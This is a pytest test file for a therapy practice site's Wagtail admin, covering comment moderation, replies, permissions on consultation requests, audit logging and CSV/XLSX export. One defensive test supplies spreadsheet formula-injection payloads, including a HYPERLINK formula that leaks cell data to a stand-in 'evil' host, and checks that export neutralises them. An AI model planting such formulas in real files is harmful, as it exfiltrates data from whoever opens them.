"""The admin for readers' data: moderation, replies, consultation requests, audit log."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from wagtail.models import ModelLogEntry

from readers.models import Comment, ConsultationRequest

pytestmark = pytest.mark.django_db

COMMENTS = "wagtailsnippets_readers_comment"
REQUESTS = "wagtailsnippets_readers_consultationrequest"


@pytest.fixture
def admin_client(client, django_user_model):
    user = django_user_model.objects.create_superuser("boss", "boss@example-practice.test", "pw")
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def staff_client(django_user_model):
    """A moderator: admin access and comment permissions, nothing on consultation requests
    except, deliberately, ``delete`` (which alone must not reveal them)."""
    from django.test import Client

    user = django_user_model.objects.create_user("mod", "mod@example-practice.test", "pw")
    group = Group.objects.create(name="Comment moderators")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        *Permission.objects.filter(
            codename__in=["change_comment", "view_comment", "delete_consultationrequest"]
        ),
    )
    user.groups.add(group)
    client = Client()
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def consultation(practice):
    return ConsultationRequest.objects.create(
        name="Sam Rivera",
        email="sam.rivera.private@example.org",
        phone="(310) 555-0199",
        preferred_contact="phone",
        message="About anxiety at work.",
        consent=True,
    )


def logs(obj, action):
    return ModelLogEntry.objects.filter(
        content_type__model=obj._meta.model_name, object_id=str(obj.pk), action=action
    )


def bulk_url(action, *ids):
    query = "&".join(f"id={i}" for i in ids)
    return f"{reverse('wagtail_bulk_action', args=('readers', 'comment', action))}?{query}&next=/admin/"


def test_pending_comments_are_listed_and_filterable_by_status(admin_client, make_comment):
    make_comment("Waiting for a decision", status=Comment.Status.PENDING, name="Pending Person")
    make_comment("Already public", name="Approved Person")

    everything = admin_client.get(reverse(f"{COMMENTS}:list")).content.decode()
    pending = admin_client.get(reverse(f"{COMMENTS}:list") + "?status=pending").content.decode()

    assert "Pending Person" in everything and "Approved Person" in everything
    assert "Pending Person" in pending and "Approved Person" not in pending


@pytest.mark.parametrize(
    ("action", "status"), [("approve", "approved"), ("reject", "rejected"), ("spam", "spam")]
)
def test_one_comment_is_moderated_from_its_row_and_the_audit_log_records_it(
    admin_client, make_comment, action, status
):
    comment = make_comment(status=Comment.Status.PENDING)

    confirm = admin_client.get(bulk_url(action, comment.pk))
    assert confirm.status_code == 200
    response = admin_client.post(bulk_url(action, comment.pk))

    assert response.status_code == 302
    comment.refresh_from_db()
    assert comment.status == status
    assert comment.moderated_by == admin_client.user
    assert comment.moderated_at is not None
    entry = logs(comment, f"readers.comment.{action}").get()
    assert entry.user == admin_client.user
    assert entry.data == {"from": "pending", "to": status}
    assert entry.label == f"Comment #{comment.pk}"


def test_comments_are_approved_in_bulk_with_one_audit_entry_each(admin_client, make_comment):
    comments = [make_comment(f"Comment {i}", status=Comment.Status.PENDING) for i in range(3)]

    admin_client.post(bulk_url("approve", *[c.pk for c in comments]))

    assert set(Comment.objects.values_list("status", flat=True)) == {"approved"}
    assert ModelLogEntry.objects.filter(action="readers.comment.approve").count() == 3


def test_the_row_menu_offers_moderation_and_reply(admin_client, make_comment):
    comment = make_comment()
    html = admin_client.get(reverse(f"{COMMENTS}:list")).content.decode()
    assert bulk_url("reject", comment.pk).split("&next=")[0].replace("&", "&amp;") in html
    assert reverse(f"{COMMENTS}:reply", args=[comment.pk]) in html


def test_changing_the_status_on_the_edit_screen_is_logged_and_nothing_else_changes(
    admin_client, make_comment
):
    comment = make_comment("Original text", status=Comment.Status.PENDING)

    response = admin_client.post(
        reverse(f"{COMMENTS}:edit", args=[comment.pk]),
        {"status": "approved", "body": "Edited by staff", "email": "x@example.org"},
    )

    assert response.status_code == 302
    comment.refresh_from_db()
    assert (comment.status, comment.body, comment.email) == (
        "approved",
        "Original text",
        "alex.reader@example.org",
    )
    assert logs(comment, "readers.comment.approve").get().user == admin_client.user
    assert logs(comment, "wagtail.edit").exists()


def test_staff_reply_as_the_practice_and_the_reply_is_public_nested_and_logged(
    admin_client, client, article, make_comment
):
    parent = make_comment("How long does therapy take?")

    form = admin_client.get(reverse(f"{COMMENTS}:reply", args=[parent.pk]))
    assert "How long does therapy take?" in form.content.decode()
    response = admin_client.post(
        reverse(f"{COMMENTS}:reply", args=[parent.pk]), {"body": "It depends; ask us anytime."}
    )

    assert response.status_code == 302
    reply = Comment.objects.get(parent=parent)
    assert (reply.status, reply.is_staff_reply, reply.name, reply.email, reply.article_id) == (
        "approved",
        True,
        "Heal & Thrive Psychotherapy",
        "",
        article.pk,
    )
    assert logs(parent, "readers.comment.reply").get().data == {"reply_id": reply.pk}
    assert logs(reply, "wagtail.create").exists()
    api = client.get(f"/api/v1/articles/{article.slug}/comments/").json()
    assert api["results"][0]["replies"][0]["body"] == "It depends; ask us anytime."
    assert api["results"][0]["replies"][0]["is_staff_reply"] is True


def test_replying_to_a_comment_that_is_not_approved_is_refused(admin_client, make_comment):
    pending = make_comment(status=Comment.Status.PENDING)
    admin_client.post(reverse(f"{COMMENTS}:reply", args=[pending.pk]), {"body": "Hello"})
    assert Comment.objects.filter(parent=pending).count() == 0


def test_nobody_adds_comments_or_consultation_requests_in_the_admin(admin_client, consultation):
    assert admin_client.get(reverse(f"{COMMENTS}:add")).status_code in (302, 403)
    assert admin_client.get(reverse(f"{REQUESTS}:add")).status_code in (302, 403)


def test_a_moderator_without_the_permission_cannot_see_consultation_requests(staff_client, consultation):
    assert staff_client.get(reverse(f"{COMMENTS}:list")).status_code == 200
    for url in (
        reverse(f"{REQUESTS}:list"),
        reverse(f"{REQUESTS}:list") + "?export=csv",
        reverse(f"{REQUESTS}:inspect", args=[consultation.pk]),
        reverse(f"{REQUESTS}:edit", args=[consultation.pk]),
        reverse(f"{REQUESTS}:delete", args=[consultation.pk]),
    ):
        response = staff_client.get(url)
        assert response.status_code in (302, 403), url
        assert b"Sam Rivera" not in response.content
    assert b"Consultation requests" not in staff_client.get("/admin/").content


def test_staff_with_the_permission_list_inspect_and_export_requests_and_it_is_logged(
    django_user_model, consultation
):
    from django.test import Client

    user = django_user_model.objects.create_user("intake", "intake@example-practice.test", "pw")
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_consultationrequest"),
    )
    client = Client()
    client.force_login(user)

    assert "Sam Rivera" in client.get(reverse(f"{REQUESTS}:list")).content.decode()
    inspect = client.get(reverse(f"{REQUESTS}:inspect", args=[consultation.pk])).content.decode()
    assert "About anxiety at work." in inspect
    export = client.get(reverse(f"{REQUESTS}:list") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))

    assert rows[0] == [
        "Received",
        "Name",
        "Email",
        "Phone",
        "Preferred contact",
        "Location",
        "Message",
        "Follow-up status",
    ]
    assert rows[1][1:4] == ["Sam Rivera", "sam.rivera.private@example.org", "(310) 555-0199"]
    assert logs(consultation, "readers.consultation_request.view").get().user == user
    assert logs(consultation, "readers.consultation_request.export").get().data == {"format": "csv"}
    # Viewing only: no change, no delete.
    assert client.get(reverse(f"{REQUESTS}:edit", args=[consultation.pk])).status_code in (302, 403)


def test_only_the_follow_up_status_of_a_request_can_change_and_it_is_logged(admin_client, consultation):
    edit_form = admin_client.get(reverse(f"{REQUESTS}:edit", args=[consultation.pk])).content.decode()
    assert 'name="status"' in edit_form
    assert 'name="message"' not in edit_form and "About anxiety at work." in edit_form
    assert logs(consultation, "readers.consultation_request.view").count() == 1

    response = admin_client.post(
        reverse(f"{REQUESTS}:edit", args=[consultation.pk]),
        {"status": "contacted", "message": "rewritten", "name": "Someone else"},
    )

    assert response.status_code == 302
    consultation.refresh_from_db()
    assert (consultation.status, consultation.message, consultation.name) == (
        "contacted",
        "About anxiety at work.",
        "Sam Rivera",
    )
    assert consultation.handled_by == admin_client.user
    assert logs(consultation, "readers.consultation_request.status").get().data == {
        "from": "new",
        "to": "contacted",
    }


def test_deleting_a_request_is_logged_without_personal_data(admin_client, consultation):
    pk = consultation.pk
    admin_client.post(reverse(f"{REQUESTS}:delete", args=[pk]))

    assert not ConsultationRequest.objects.filter(pk=pk).exists()
    entry = ModelLogEntry.objects.get(
        content_type__model="consultationrequest", object_id=str(pk), action="wagtail.delete"
    )
    assert "Sam" not in entry.label and "sam.rivera" not in entry.label


def test_bulk_deleting_comments_writes_one_audit_entry_each(admin_client, make_comment):
    comments = [make_comment("one"), make_comment("two")]
    url = reverse("wagtail_bulk_action", args=("readers", "comment", "delete"))

    admin_client.post(f"{url}?id={comments[0].pk}&id={comments[1].pk}&next=/admin/")

    assert Comment.objects.count() == 0
    entries = ModelLogEntry.objects.filter(action="wagtail.delete", content_type__model="comment")
    assert sorted(entries.values_list("object_id", flat=True)) == sorted(str(c.pk) for c in comments)
    assert {e.user for e in entries} == {admin_client.user}


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(admin_client, practice, text):
    from openpyxl import load_workbook

    ConsultationRequest.objects.create(
        name=text, email="x@example.org", preferred_contact="email", message=text, consent=True
    )

    export = admin_client.get(reverse(f"{REQUESTS}:list") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode(), newline="")))
    assert (rows[1][1], rows[1][6]) == ("'" + text, "'" + text)

    xlsx = admin_client.get(reverse(f"{REQUESTS}:list") + "?export=xlsx")
    data = b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows(min_row=2, values_only=True))[0]
    # XML (inside XLSX) reads a carriage return back as a line feed.
    assert (cells[1], cells[6]) == ("'" + text.replace("\r", "\n"), "'" + text.replace("\r", "\n"))
    assert rows[1][2] == "x@example.org"


def test_listing_consultation_requests_and_comments_is_audit_logged_per_record_shown(
    admin_client, consultation, make_comment
):
    comment = make_comment(status=Comment.Status.PENDING)

    assert "Sam Rivera" in admin_client.get(reverse(f"{REQUESTS}:list") + "?status=new").content.decode()
    admin_client.get(reverse(f"{COMMENTS}:list"))

    entry = logs(consultation, "readers.consultation_request.list").get()
    assert (entry.user, entry.data) == (admin_client.user, {"listing": "status=new"})
    assert logs(comment, "readers.comment.list").get().user == admin_client.user
    assert "sam.rivera" not in str(entry.data) and "Sam" not in str(entry.data)


def test_a_failed_edit_that_shows_the_record_again_is_audit_logged(admin_client, consultation, make_comment):
    comment = make_comment(status=Comment.Status.PENDING)

    request_edit = admin_client.post(reverse(f"{REQUESTS}:edit", args=[consultation.pk]), {"status": "bogus"})
    comment_edit = admin_client.post(reverse(f"{COMMENTS}:edit", args=[comment.pk]), {"status": "bogus"})

    assert request_edit.status_code == comment_edit.status_code == 200
    assert "About anxiety at work." in request_edit.content.decode()
    assert logs(consultation, "readers.consultation_request.view").get().data == {"form_invalid": True}
    assert logs(comment, "readers.comment.view").get().data == {"form_invalid": True}
